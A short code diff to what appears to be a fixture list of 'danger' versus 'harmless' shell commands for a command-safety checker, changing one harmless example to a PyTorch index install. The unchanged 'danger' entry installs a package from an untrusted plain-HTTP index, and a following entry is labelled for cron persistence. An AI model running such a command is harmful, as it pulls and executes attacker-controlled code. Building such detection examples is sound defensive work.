@@ -100,7 +100,7 @@ export const EXAMPLES: readonly Example[] = [
   {
     id: "run/foreign-index",
     danger: "pip install --index-url http://192.0.2.1/simple helper",
-    harmless: "pip install --index-url https://pypi.org/simple requests",
+    harmless: "pip install torch --index-url https://download.pytorch.org/whl/cpu",
   },
   {
     id: "persist/cron",
